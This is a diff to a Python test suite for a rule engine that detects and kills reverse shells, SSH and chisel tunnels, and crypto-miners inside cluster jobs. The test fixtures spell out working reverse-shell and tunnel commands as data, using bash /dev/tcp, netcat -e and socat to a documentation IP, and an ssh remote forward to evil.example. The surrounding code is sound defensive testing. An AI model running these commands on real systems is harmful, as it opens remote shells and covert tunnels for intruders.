@@ -72,7 +72,7 @@ def test_errors_name_file_line_and_field(text, expected):
     (["/usr/bin/ssh", "-NfR", "2222:localhost:22", "evil.example"], {"ssh-reverse-tunnel"}),
     (["/usr/bin/ssh", "-D", "1080", "-N", "proxy.example"], {"ssh-reverse-tunnel"}),
     (["/usr/bin/ssh", "-o", "RemoteForward=2222 localhost:22", "h"], {"ssh-forward-by-option"}),
-    (["/usr/local/bin/chisel", "client", "h:8080", "R:socks"], {"tunnel-tool"}),
+    (["/usr/local/bin/chisel", "client", "h:8080", "R:socks"], {"tunnel-tool", "tunnel-argv-shape"}),
     (["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"], {"reverse-shell-dev-tcp"}),
     (["/usr/bin/nc", "203.0.113.9", "4444", "-e", "/bin/sh"], {"reverse-shell-netcat"}),
     (["/usr/bin/socat", "TCP:203.0.113.9:4444", "EXEC:/bin/sh,pty"], {"reverse-shell-netcat"}),
@@ -141,8 +141,12 @@ def test_policy_compiles_kernel_enforceable_rules(builtin):
     assert {k.comm for k in ssh} == {"ssh", "autossh"} and all(k.options == "RDw" for k in ssh)
     assert any(k.comm == "xmrig" and k.options == "" for k in policy.kill)
     assert not any(k.rule_id == "miner-stratum-url" for k in policy.kill)    # argv regex: userspace kill
-    assert [(s.rule_id, s.drop) for s in policy.stratum] == [("stratum-handshake", True)]
-    assert list(policy.stratum[0].scope.job_kinds) == ["slurm", "k8s", "container"]
+    stratum = [(s.rule_id, s.drop) for s in policy.payload if s.stratum]
+    assert stratum == [("stratum-handshake", True)]
+    assert list(policy.payload[0].scope.job_kinds) == ["slurm", "k8s", "container"]
+    drops = {s.rule_id for s in policy.payload if s.drop}     # signal rules and user-space kills only report
+    assert {"ssh-banner-unknown-client", "websocket-tunnel"} <= drops
+    assert not drops & {"socks-connect", "miner-via-socks"}
     assert not any(k.scope.host_wide for k in policy.kill)                # built-ins never touch the host
 
 
@@ -151,7 +155,7 @@ def test_job_modes_split_enforce_and_monitor_scopes():
     policy = compile_policy(rs, 1)
     xmrig = next(k for k in policy.kill if k.comm == "xmrig")
     assert list(xmrig.scope.exclude_job_ids) == ["77"]
-    assert {(s.drop, tuple(s.scope.job_ids)) for s in policy.stratum} == {(True, ()), (False, ("77",))}
+    assert {(s.drop, tuple(s.scope.job_ids)) for s in policy.payload if s.stratum} == {(True, ()), (False, ("77",))}
     assert rs.mode_for("", "77") == "monitor" and rs.mode_for("", "78") == "enforce"
 
 
@@ -208,12 +212,13 @@ def test_shells_and_awk_are_denied_connects_in_jobs_by_identity():
 
 def test_reverse_shell_by_socket_stdio_is_a_kernel_kill_for_shells():
     policy = compile_policy(load_ruleset(rule_texts()), 1)
-    kills = {k.comm for k in policy.kill if k.rule_id == "reverse-shell-socket-stdio"}
+    kills = {k.comm for k in policy.kill if k.rule_id == "reverse-shell-stdio"}
     assert {"sh", "bash", "dash"} <= kills
-    assert all(k.stdio_socket for k in policy.kill if k.rule_id == "reverse-shell-socket-stdio")
-    assert not any(k.stdio_socket for k in policy.kill if k.rule_id != "reverse-shell-socket-stdio")
+    assert all(k.stdio_socket for k in policy.kill if k.rule_id == "reverse-shell-stdio")
+    assert not any(k.stdio_socket for k in policy.kill if k.rule_id != "reverse-shell-stdio")
     engine = Engine(load_ruleset(rule_texts()))
     ev = pb.Event(seq=1, exec=pb.Exec(filename="/bin/bash", argv=["bash", "-i"], stdio=["socket", "socket", "other"]))
     ev.process.comm, ev.process.exe, ev.job.kind, ev.job.id = "bash", "/bin/bash", "slurm", "1"
     hits = {m.rule.id: m.matched for m in engine.evaluate("h", ev, None)}
-    assert hits["reverse-shell-socket-stdio"]["stdio_socket"] == "fd0,fd1 on a socket"
+    assert hits["reverse-shell-stdio"]["stdio_network"] == "fd0,fd1 on a socket"
+    assert all(k.stdio_pipe_network for k in policy.kill if k.rule_id == "reverse-shell-stdio")
